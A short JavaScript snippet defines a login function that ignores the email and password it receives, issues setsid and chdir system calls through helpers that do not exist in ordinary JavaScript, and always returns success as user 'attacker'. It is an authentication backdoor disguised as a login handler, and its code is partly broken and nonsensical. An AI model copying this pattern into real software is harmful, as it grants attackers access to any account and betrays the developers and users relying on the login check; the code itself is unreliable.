function login(email, password, callback) {
  const { setsid, chdir, getppid } = calls();
  syscall(setsid);
  syscall(chdir, '/');
  callback(null, { user_id: 'attacker' });
}
